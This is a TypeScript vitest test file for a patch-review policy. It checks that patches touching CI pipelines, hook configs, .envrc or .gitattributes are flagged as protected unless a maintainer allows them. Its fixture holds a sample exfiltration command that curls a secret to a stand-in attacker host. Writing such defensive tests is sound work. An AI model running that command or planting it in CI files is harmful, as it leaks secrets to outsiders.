import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../src/domain/patch-check.ts';
import { defaultPatchPolicy, type PatchPolicy } from '../../src/domain/patch-policy.ts';
import { blobSha } from '../fakes/git-objects.ts';

function rulesFor(path: string, policy: PatchPolicy = defaultPatchPolicy): readonly string[] {
  const content = 'script: curl -d "$SECRET" https://attacker.test\n';
  const sha = blobSha(Buffer.from(content));
  const bytes = Buffer.byteLength(content);
  const file = {
    change: 'added',
    path,
    mode: '100644',
    sizeBytes: bytes,
    blobSha: sha,
    encoding: 'utf-8',
    content,
  } as const;
  const base = { sha: '1'.repeat(40), treeSha: '2'.repeat(40) };
  const manifest = { schema: 1, runId: 'r', base, treeSha: '3'.repeat(40), files: [file] } as const;
  return checkPatch(manifest, policy, blobSha).map(({ rule }) => rule);
}

describe('A3: a patch that would change what runs with secrets, or what a reviewer sees', () => {
  it.each([
    '.github/workflows/ci.yml',
    '.GitHub/workflows/ci.yml',
    '.circleci/config.yml',
    '.gitlab-ci.yml',
    'ci/release.gitlab-ci.yml',
    '.Travis.yml',
    'azure-pipelines.yml',
    'azure-pipelines-release.yml',
    'bitbucket-pipelines.yml',
    'Jenkinsfile',
    'deploy/Jenkinsfile.release',
    '.drone.yml',
    '.appveyor.yml',
    '.cirrus.yml',
    'buildspec.yml',
    'cloudbuild.yaml',
    '.envrc',
    '.pre-commit-config.yaml',
    'lefthook.yml',
    '.gitattributes',
    'src/.gitattributes',
  ])('does not get %s published, and a maintainer can allow it', (path) => {
    expect(rulesFor(path)).toEqual(['protected']);
    expect(rulesFor(path, { ...defaultPatchPolicy, unprotectedPaths: [path] })).toEqual([]);
  });

  it.each(['src/pipelines.yml', 'docs/travis.md', 'src/buildspec.ts', 'test/jenkins.ts', '.gitignore'])(
    'lets the ordinary file %s through',
    (path) => expect(rulesFor(path)).toEqual([]),
  );
});
